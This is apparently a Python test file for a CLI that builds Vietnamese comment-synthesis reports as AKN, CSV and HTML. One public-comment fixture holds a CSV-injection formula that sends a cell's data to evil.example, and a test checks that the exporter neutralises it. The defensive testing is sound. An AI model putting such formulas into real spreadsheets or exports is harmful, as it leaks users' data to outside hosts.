"""`dossier report`: the synthesis report of comments, run as the real binary
on a dossier built in the test with fixed --now times (tests/fixtures/report:
a workflow, draft v1 and v2).

The AKN validates against the OASIS schema; the CSV equals
tests/fixtures/report/expected.csv byte for byte; the HTML renders, is one
self-contained page and names every comment; -o writes atomically and
nothing on error; usage mistakes exit 2. Two comments from the public
come in through `dossier import`. Where tidy and Chromium are
installed (scripts/deps.sh), the page passes tidy without a warning and
renders in headless Chromium with no console error or network request, as
the consolidated draft's page does (tests/cli/test_consolidate.py).
"""
import json
import os
import re
import shutil
import subprocess
import tempfile
import unittest

import clitest
from clitest import run

FIX = os.path.join(clitest.FIXTURES, "report")
WF = os.path.join(FIX, "workflow.yaml")
EXPECTED = os.path.join(FIX, "expected.csv")

# (who, when, eId, text, proposal)
COMMENTS = [
    ("most", "2025-07-01T09:00", "art_2__para_1",
     'Đề nghị bổ sung "dữ liệu cảm biến", dữ liệu IoT.',
     "1. Dữ liệu đô thị là dữ liệu số về đô thị, gồm cả dữ liệu cảm biến."),
    ("mof", "2025-07-02T10:00", "art_4", "Đề nghị bỏ Điều 4 vì không cần thiết.", None),
    ("hanoi", "2025-07-02T10:00", "art_1", "Dòng thứ nhất;\nDòng thứ hai.", None),
    ("most", "2025-07-02T10:00", "art_1", "Nhất trí với phạm vi điều chỉnh.", None),
    ("hanoi", "2025-07-03T08:00", "general", "Nhất trí với dự thảo.", None),
    ("mof", "2025-07-04T15:30", "art_2__para_2__point_b", "Làm rõ phạm vi hạ tầng.", None),
    ("most", "2025-07-05T11:00", "art_3", "Đề nghị quy định cơ chế xã hội hóa.", None),
]

# (id, disposition, reason); mof-2 stays unanswered.
RESPONSES = [
    ("most-1", "--accept", "Tiếp thu, đã sửa khoản 1 Điều 2."),
    ("mof-1", "--accept", "Tiếp thu, bỏ Điều 4."),
    ("hanoi-1", "--partial", 'Tiếp thu một phần, "xem" Điều 1.'),
    ("most-2", "--note", "Ghi nhận."),
    ("hanoi-2", "--note", "Ghi nhận."),
    ("most-3", "--reject", "Giữ nguyên; kinh phí theo Luật Ngân sách nhà nước."),
    ("pub-1", "--reject", "Giữ nguyên định nghĩa để thống nhất với Luật."),
]

# Comments from the public, imported by the drafting agency (docs/import.md).
PUBLIC = [
    {"author_name": "Nguyễn Văn An", "organisation": "Hiệp hội Doanh nghiệp nhỏ và vừa",
     "on": "art_2__para_1", "text": "Đề nghị định nghĩa ngắn gọn hơn.",
     "received": "2025-07-03T14:00:00+07:00"},
    {"author_name": "Trần Thị Bình", "on": "general", "text": "Ủng hộ dự thảo, đề nghị sớm ban hành.",
     "received": "2025-07-04"},
    # What a spreadsheet would run as a formula (CSV injection, issue 11).
    {"author_name": "@Lê Văn Cường", "on": "art_3",
     "text": '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
     "proposal": "- Bộ Xây dựng chủ trì;\n- Bộ Tài chính phối hợp.",
     "received": "2025-07-05T16:00:00+07:00"},
]

IDS = ["most-1", "mof-1", "hanoi-1", "most-2", "hanoi-2", "mof-2", "most-3", "pub-1", "pub-2", "pub-3"]


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
TIDY = shutil.which("tidy")


class ReportTest(clitest.TestCase):
    repo = None
    base = None

    @classmethod
    def setUpClass(cls):
        cls.base = tempfile.mkdtemp(prefix="dossier-report-")
        cls.repo = os.path.join(cls.base, "dossier")

        def act(who, when, *args):
            r = run("-C", cls.repo, "--as", who, "--now", when, *args)
            if r.code != 0:
                raise AssertionError("%s %s: %r" % (who, args, r))
            return r

        r = run("--as", "moc", "--now", "2025-06-20T09:00", "init", cls.repo, "--workflow", WF)
        if r.code != 0:
            raise AssertionError(repr(r))
        act("moc", "2025-06-25T10:00", "revise", os.path.join(FIX, "draft-v1.txt"), "-m", "dự thảo 1")
        act("moc", "2025-06-26T08:00", "advance", "comment")
        for who, when, on, text, proposal in COMMENTS:
            args = ["comment", "--on", on, "--text", text]
            if proposal:
                args += ["--propose", proposal]
            act(who, when, *args)
        public = os.path.join(cls.base, "public.jsonl")
        with open(public, "w", encoding="utf-8") as f:
            for rec in PUBLIC:
                f.write(json.dumps(rec, ensure_ascii=False) + "\n")
        act("moc", "2025-07-06T09:00", "import", public)
        act("moc", "2025-07-10T08:00", "advance", "finishing")
        for i, (cid, disp, reason) in enumerate(RESPONSES):
            act("moc", "2025-07-11T09:%02d" % i, "respond", cid, disp, "--reason", reason)
        act("moc", "2025-07-15T15:00", "revise", os.path.join(FIX, "draft-v2.txt"), "-m", "dự thảo 2")

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.base, ignore_errors=True)

    def report(self, *args):
        return run("-C", self.repo, "report", *args)

    # ---- AKN -------------------------------------------------------------

    def test_akn_is_the_default_and_validates(self):
        r = self.report()
        self.assertExit(r, 0)
        self.assertIn('<doc name="report">', r.out)
        out = self.path("report.xml")
        with open(out, "w", encoding="utf-8") as f:
            f.write(r.out)
        self.assertValidAkn(out)
        for cid in IDS:
            self.assertIn('<p class="commentId">%s</p>' % cid, r.out)
        self.assertIn('<FRBRuri value="/akn/vn/doc/report/2025-07-15/', r.out)
        silent = r.out[r.out.index('<blockContainer class="silentMembers">'):]
        silent = silent[:silent.index("</blockContainer>")]
        self.assertEqual(re.findall(r'<organization refersTo="#([a-z]+)">', silent), ["fpt"])
        # The public: one TLCOrganization, each comment named after its author.
        self.assertIn('<TLCOrganization eId="pub" href="/akn/ontology/organization/vn/pub"', r.out)
        self.assertIn('<organization refersTo="#pub">Nguyễn Văn An</organization>', r.out)
        # The same dossier gives the same bytes.
        self.assertEqual(self.report().out, r.out)

    def test_the_official_header_and_the_signature_block(self):
        """Issue 13, item 11: Quốc hiệu, Tiêu ngữ, the agency, số/ký hiệu with a
        blank, place and date; the signature block, as the decree has."""
        out = self.report().out
        pre = out[out.index("<preface>"):out.index("</preface>")]
        for want in ('<p class="republic">CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM</p>',
                     '<p class="motto">Độc lập - Tự do - Hạnh phúc</p>',
                     '<p class="docNumber">Số: ……/BC-……</p>',
                     '<p class="placeAndDate">……, ngày 15 tháng 7 năm 2025</p>',
                     '<organization refersTo="#moc">Bộ Xây dựng</organization>'):
            self.assertIn(want, pre)
        con = out[out.index("<conclusions>"):out.index("</conclusions>")]
        self.assertIn('<p class="heading">Nơi nhận:</p>', con)
        self.assertIn('<p class="sign">(Ký, ghi rõ họ tên và đóng dấu)</p>', con)
        self.assertIn('<p class="agency">Bộ Xây dựng</p>', con)
        html = self.report("--format", "html").out
        for want in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "Số: ……/BC-……",
                     "……, ngày 15 tháng 7 năm 2025", "Nơi nhận:", "(Ký, ghi rõ họ tên và đóng dấu)"):
            self.assertIn(want, html)
        self.assertLess(html.index("CỘNG HÒA"), html.index("<h1"))
        self.assertLess(html.index("II. Tổng hợp"), html.index("Nơi nhận:"))

    def test_akn_statuses_in_the_latest_revision(self):
        out = self.report().out
        groups = re.findall(r'<p class="provisionId">([^<]+)</p>.*?refersTo="#status-([a-z-]+)"', out, re.S)
        self.assertEqual(groups, [
            ("art_1", "unchanged"),
            ("art_2__para_1", "changed"),
            ("art_2__para_2__point_b", "unchanged"),
            ("art_3", "unchanged"),
            ("art_4", "deleted"),
            ("general", "general"),
        ])

    # ---- CSV -------------------------------------------------------------

    def test_csv_matches_the_golden_file(self):
        out = self.path("report.csv")
        r = self.report("--format", "csv", "-o", out)
        self.assertExit(r, 0)
        self.assertEqual(r.out, "")
        with open(out, "rb") as f:
            got = f.read()
        if os.environ.get("DOSSIER_UPDATE_GOLDEN"):
            with open(EXPECTED, "wb") as f:
                f.write(got)
        with open(EXPECTED, "rb") as f:
            want = f.read()
        self.assertEqual(got, want)
        self.assertTrue(got.startswith(b"\xef\xbb\xbf"))
        # Every comment exactly once.
        import csv
        import io
        rows = list(csv.reader(io.StringIO(got.decode("utf-8-sig"), newline="")))
        self.assertEqual(len(rows[0]), 15)
        self.assertEqual(sorted(row[6] for row in rows[1:]), sorted(IDS))
        self.assertEqual([row[0] for row in rows[1:]], [str(i) for i in range(1, len(IDS) + 1)])

    def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(self):
        r = self.report("--format", "csv")
        self.assertExit(r, 0)
        import csv
        import io
        rows = list(csv.reader(io.StringIO(r.out.lstrip("\ufeff"), newline="")))
        row = [x for x in rows if x[6] == "pub-3"][0]
        self.assertEqual(row[7], "'@Lê Văn Cường")
        self.assertEqual(row[8], "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem chi tiết\")")
        self.assertEqual(row[9], "'- Bộ Xây dựng chủ trì;\n- Bộ Tài chính phối hợp.")
        # no cell of the whole file begins with what Excel or LibreOffice evaluates
        for row in rows:
            for cell in row:
                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), repr(cell))
        # and each neutralised cell is quoted in the file
        self.assertIn(',"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem chi tiết"")",', r.out)

    def test_csv_on_stdout(self):
        r = run("-C", self.repo, "report", "--format", "csv")
        self.assertExit(r, 0)
        with open(EXPECTED, "rb") as f:
            want = f.read().decode("utf-8")
        # text mode turns CRLF into LF on reading; compare the content.
        self.assertEqual(r.out.replace("\r\n", "\n"), want.replace("\r\n", "\n"))

    # ---- HTML ------------------------------------------------------------

    def test_html_renders_every_comment(self):
        out = self.path("report.html")
        r = self.report("--format", "html", "-o", out)
        self.assertExit(r, 0)
        self.assertEqual(r.err, "")
        with open(out, encoding="utf-8") as f:
            html = f.read()
        self.assertTrue(html.startswith("<!DOCTYPE html>"), html[:80])
        self.assertIn('<html lang="vi">', html)
        self.assertIn("Báo cáo tổng hợp, tiếp thu, giải trình ý kiến", html)
        self.assertIn("size: A4 landscape", html)
        self.assertIn("Times New Roman", html)
        for cid in IDS:
            self.assertIn('id="c-%s"' % cid, html)
        for label in ("Tiếp thu", "Tiếp thu một phần", "Không tiếp thu (giải trình)", "Ghi nhận",
                      "Chưa trả lời", "không có ý kiến", "Công ty Cổ phần FPT"):
            self.assertIn(label, html)
        # Self-contained: nothing fetched from anywhere.
        self.assertNotRegex(html, r'(src|href)\s*=\s*"(https?:)?//')
        self.assertNotIn("<script", html)
        self.assertNotIn("@import", html)
        self.assertNotRegex(html, r"url\(")

    def html(self):
        out = self.path("report.html")
        self.assertExit(self.report("--format", "html", "-o", out), 0)
        return out

    @unittest.skipUnless(TIDY, "tidy is not installed (scripts/deps.sh installs it)")
    def test_html_passes_tidy(self):
        out = self.html()
        proc = subprocess.run([TIDY, "-q", "-e", "-utf8", out], capture_output=True, text=True, timeout=60)
        # tidy exits 0 when clean, 1 with warnings, 2 with errors.
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual(proc.stderr.strip(), "")

    @unittest.skipUnless(CHROMIUM, "chromium is not installed (scripts/deps.sh installs it)")
    def test_html_renders_in_chromium(self):
        out = self.html()
        png = self.path("r.png")
        profile = self.path("profile")
        base = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--no-first-run", "--disable-background-networking", "--disable-component-update",
                "--disable-sync", "--user-data-dir=" + profile]
        url = "file://" + out
        proc = subprocess.run(base + ["--screenshot=" + png, "--window-size=1754,1240", url],
                              capture_output=True, text=True, timeout=120)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        with open(png, "rb") as f:
            data = f.read()
        self.assertEqual(data[:8], b"\x89PNG\r\n\x1a\n")
        self.assertEqual((int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")),
                         (1754, 1240))
        # A blank page compresses to a few kilobytes; a page of text does not.
        self.assertGreater(len(data), 50000)
        shutil.rmtree(profile, ignore_errors=True)
        proc = subprocess.run(base + ["--enable-logging=stderr", "--v=0", "--dump-dom", url],
                              capture_output=True, text=True, timeout=120)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        for cid in IDS:
            self.assertIn('id="c-%s"' % cid, proc.stdout)
        console = [l for l in proc.stderr.splitlines() if "CONSOLE" in l or "Uncaught" in l]
        self.assertEqual(console, [])
        self.assertNotRegex(proc.stderr, r"net::ERR_|Failed to load resource")

    # ---- errors and -o ---------------------------------------------------

    def test_unknown_format_is_a_usage_error(self):
        out = self.path("x.txt")
        r = self.report("--format", "odt", "-o", out)
        self.assertExit(r, 2)
        self.assertIn("unknown format 'odt'", r.err)
        self.assertFalse(os.path.exists(out))
        self.assertExit(self.report("extra"), 2)
        self.assertExit(self.report("--bogus"), 2)

    def test_help(self):
        r = self.report("--help")
        self.assertExit(r, 0)
        self.assertIn("--format", r.out)

    def test_not_a_dossier_writes_nothing(self):
        out = self.path("r.xml")
        empty = self.path("empty")
        os.mkdir(empty)
        r = run("-C", empty, "report", "-o", out)
        self.assertExit(r, 2)
        self.assertTrue(r.err.startswith("error: "), r.err)
        self.assertFalse(os.path.exists(out))
        self.assertEqual(os.listdir(self.tmp), ["empty"])

    def test_output_into_a_missing_directory_fails_cleanly(self):
        out = self.path("no", "such", "dir", "r.xml")
        r = self.report("-o", out)
        self.assertExit(r, 1)
        self.assertIn("cannot create", r.err)
        self.assertFalse(os.path.exists(self.path("no")))

    def test_output_gets_the_mode_of_a_new_file(self):
        out = self.path("r.csv")
        old = os.umask(0o022)
        try:
            self.assertExit(self.report("--format", "csv", "-o", out), 0)
        finally:
            os.umask(old)
        self.assertEqual(os.stat(out).st_mode & 0o777, 0o644)

    def test_output_replaces_a_file_atomically(self):
        out = self.path("r.xml")
        with open(out, "w") as f:
            f.write("old")
        os.chmod(out, 0o640)
        self.assertExit(self.report("-o", out), 0)
        with open(out, encoding="utf-8") as f:
            self.assertTrue(f.read().startswith("<?xml"))
        self.assertEqual(os.listdir(self.tmp), ["r.xml"])
        self.assertEqual(os.stat(out).st_mode & 0o777, 0o640)

    def test_an_empty_dossier_has_a_valid_report(self):
        repo = self.path("fresh")
        self.assertExit(run("--as", "moc", "--now", "2025-06-20T09:00", "init", repo, "--workflow", WF), 0)
        out = self.path("fresh.xml")
        r = run("-C", repo, "report", "-o", out)
        self.assertExit(r, 0)
        self.assertValidAkn(out)
        r = run("-C", repo, "report", "--format", "csv")
        self.assertExit(r, 0)
        self.assertEqual(len(r.out.strip().splitlines()), 1)


def renumber_drafts():
    """v1 of ten articles; v2 inserts a new Điều 4 and takes in the proposal
    for (old) Điều 5 khoản 2 điểm đ, now Điều 6 khoản 2 điểm đ."""
    def arts(insert):
        out = []
        for n in range(1, 11):
            k = n + 1 if insert and n >= 4 else n   # the article's number in this draft
            if insert and n == 4:
                out.append("Điều 4. Giải thích từ ngữ\nTrong Nghị định này, các từ ngữ được hiểu như sau.\n")
            if n == 5:
                out.append("Điều %d. Yêu cầu đối với hệ thống\n1. Hệ thống bảo đảm an toàn.\n"
                           "2. Hệ thống đáp ứng các yêu cầu sau:\na) Kết nối liên thông;\nb) Chia sẻ dữ liệu;\n"
                           "c) Bảo mật thông tin;\nd) Dễ sử dụng;\n%s\n"
                           % (k, ADOPTED if insert else "đ) Có nhật ký truy cập."))
            elif n == 9:
                out.append("Điều %d. Trách nhiệm của các bộ\n1. Bộ Xây dựng chủ trì.\n"
                           "2. Bộ Tài chính bảo đảm kinh phí.\n3. Bộ Công an bảo đảm an ninh dữ liệu.\n" % k)
            else:
                out.append("Điều %d. Quy định thứ %d\nNội dung của quy định thứ %d.\n" % (k, n, n))
        return "NGHỊ ĐỊNH\nQuy định thử nghiệm đánh số lại\n" + "".join(out)
    return arts(0), arts(1)


ADOPTED = "đ) Có nhật ký truy cập, lưu trữ tối thiểu 12 tháng."


class RenumberedReportTest(clitest.TestCase):
    """Issue 13, item 1: after v2 inserts a new Điều 4, the report, its CSV
    and HTML, and the consolidated draft's notes follow each provision to
    its new number, by the same mechanism as `comments --revision v1`."""

    def setUp(self):
        super().setUp()
        self.repo = self.path("dossier")
        v1, v2 = renumber_drafts()
        f1, f2 = self.write("v1.txt", v1), self.write("v2.txt", v2)
        self.assertExit(run("--as", "moc", "--now", "2025-06-20T09:00", "init", self.repo, "--workflow", WF), 0)
        self.act("moc", "2025-06-25T10:00", "revise", f1)
        self.act("moc", "2025-06-26T08:00", "advance", "comment")
        self.act("most", "2025-07-01T09:00", "comment", "--on", "art_5__para_2__point_dd",
                 "--text", "Đề nghị quy định thời hạn lưu trữ.", "--propose", ADOPTED)
        self.act("mof", "2025-07-01T10:00", "comment", "--on", "art_9__para_3", "--text", "Đề nghị bỏ khoản 3.")
        self.act("hanoi", "2025-07-01T11:00", "comment", "--on", "art_3", "--text", "Nhất trí Điều 3.")
        self.act("fpt", "2025-07-01T12:00", "comment", "--on", "art_7", "--text", "Nhất trí Điều 7.")
        # accepted, but v2 does not take it in: the consolidated draft does
        self.act("most", "2025-07-01T13:00", "comment", "--on", "art_9__para_2", "--text", "Bổ sung hướng dẫn.",
                 "--propose", "2. Bộ Tài chính bảo đảm kinh phí và hướng dẫn thực hiện.")
        self.act("moc", "2025-07-10T08:00", "advance", "finishing")
        answers = self.write("answers.csv",
                             "comment,disposition,reason\n"
                             "most-1,tiếp thu,Tiếp thu.\n"
                             "mof-1,giải trình,Giữ nguyên để bảo đảm an ninh dữ liệu.\n"
                             "hanoi-1,ghi nhận,Ghi nhận.\n"
                             "fpt-1,note,Ghi nhận.\n"
                             "most-2,accept,Tiếp thu.\n")
        self.act("moc", "2025-07-11T09:00", "respond", "--file", answers)
        self.act("moc", "2025-07-15T15:00", "revise", f2)

    def act(self, who, when, *args):
        r = run("-C", self.repo, "--as", who, "--now", when, *args)
        self.assertExit(r, 0)
        return r

    # comment id -> (citation commented on, citation in v2, status)
    WANT = {
        "hanoi-1": ("Điều 3", "Điều 3", "unchanged", "Giữ nguyên"),
        "most-1": ("Điều 5 khoản 2 điểm đ", "Điều 6 khoản 2 điểm đ", "changed", "Đã sửa đổi"),
        "fpt-1": ("Điều 7", "Điều 8", "unchanged", "Giữ nguyên"),
        "mof-1": ("Điều 9 khoản 3", "Điều 10 khoản 3", "unchanged", "Giữ nguyên"),
        "most-2": ("Điều 9 khoản 2", "Điều 10 khoản 2", "unchanged", "Giữ nguyên"),
    }

    def test_csv_shows_both_citations_and_the_right_status(self):
        import csv
        import io
        r = run("-C", self.repo, "report", "--format", "csv")
        self.assertExit(r, 0)
        rows = list(csv.reader(io.StringIO(r.out.lstrip("\ufeff"), newline="")))
        head = rows[0]
        col = {name: head.index(name) for name in ("Mã ý kiến", "Điều khoản", "Dự thảo góp ý",
                                                   "Điều khoản trong dự thảo mới nhất",
                                                   "Tình trạng trong dự thảo mới nhất", "Ý kiến tiếp thu")}
        got = {row[col["Mã ý kiến"]]: row for row in rows[1:]}
        self.assertEqual(sorted(got), sorted(self.WANT))
        for cid, (was, now, _, label) in self.WANT.items():
            row = got[cid]
            self.assertEqual((row[col["Điều khoản"]], row[col["Dự thảo góp ý"]],
                              row[col["Điều khoản trong dự thảo mới nhất"]],
                              row[col["Tình trạng trong dự thảo mới nhất"]]), (was, "v1", now, label), cid)
        self.assertEqual(got["mof-1"][col["Ý kiến tiếp thu"]], "Không tiếp thu (giải trình)")
        self.assertEqual(got["hanoi-1"][col["Ý kiến tiếp thu"]], "Ghi nhận")
        self.assertNotIn("Đã bỏ", r.out)

    def test_akn_and_html_follow_renumbering(self):
        r = run("-C", self.repo, "report")
        self.assertExit(r, 0)
        out = self.path("report.xml")
        with open(out, "w", encoding="utf-8") as f:
            f.write(r.out)
        self.assertValidAkn(out)
        groups = re.findall(r'<p class="provisionId">([^<]+)</p>.*?refersTo="#status-([a-z-]+)".*?'
                            r'<p class="nowCitation">([^<]+)</p>', r.out, re.S)
        self.assertEqual(groups, [("art_3", "unchanged", "Điều 3"),
                                  ("art_5__para_2__point_dd", "changed", "Điều 6 khoản 2 điểm đ"),
                                  ("art_7", "unchanged", "Điều 8"),
                                  ("art_9__para_2", "unchanged", "Điều 10 khoản 2"),
                                  ("art_9__para_3", "unchanged", "Điều 10 khoản 3")])
        h = run("-C", self.repo, "report", "--format", "html")
        self.assertExit(h, 0)
        self.assertIn("nay là Điều 6 khoản 2 điểm đ (art_6__para_2__point_dd)", h.out)
        self.assertIn("nay là Điều 10 khoản 3 (art_10__para_3)", h.out)

    def test_the_same_as_comments_revision(self):
        carried = run("-C", self.repo, "comments", "--json", "--revision", "v1").json()["comments"]
        now = {c["id"]: c["now"]["citation"] for c in carried}
        self.assertEqual(now, {cid: w[1] for cid, w in self.WANT.items()})

    def test_consolidated_notes_follow_renumbering(self):
        r = run("-C", self.repo, "consolidate")
        self.assertExit(r, 0)
        out = self.path("consolidated.xml")
        with open(out, "w", encoding="utf-8") as f:
            f.write(r.out)
        self.assertValidAkn(out)
        # most-1's text is in v2 already: nothing to apply; most-2's is put
        # into Điều 10 khoản 2, the old Điều 9 khoản 2, never into the new Điều 9
        self.assertNotIn('note-most-1"', r.out)
        note = re.search(r'<note eId="note-most-2"[^>]*placementBase="([^"]+)"[^>]*>(.*?)</note>', r.out, re.S)
        self.assertIsNotNone(note, r.out)
        self.assertEqual(note.group(1), "art_10__para_2")
        text = re.sub(r"<[^>]+>", "", note.group(2))
        self.assertIn("về Điều 9 khoản 2 của dự thảo v1, nay là Điều 10 khoản 2", text)
        self.assertIn("Bộ Tài chính bảo đảm kinh phí và hướng dẫn thực hiện.", r.out)
        self.assertIn("Nội dung của quy định thứ 8.", r.out)   # the new Điều 9 as it was


if __name__ == "__main__":
    clitest.main()
